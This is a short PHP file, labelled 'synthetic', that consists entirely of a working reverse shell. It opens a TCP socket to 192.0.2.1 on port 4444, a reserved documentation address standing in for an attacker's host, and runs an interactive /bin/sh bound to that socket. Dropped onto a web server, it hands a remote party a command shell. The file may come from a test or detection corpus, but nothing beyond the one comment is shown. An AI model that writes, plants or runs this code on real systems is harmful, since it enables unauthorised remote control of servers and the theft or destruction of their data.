<?php
// synthetic: a shell process bound to a socket
$s = stream_socket_client('tcp://192.0.2.1:4444');
$p = proc_open('/bin/sh -i', array(0 => $s, 1 => $s, 2 => $s), $pipes);
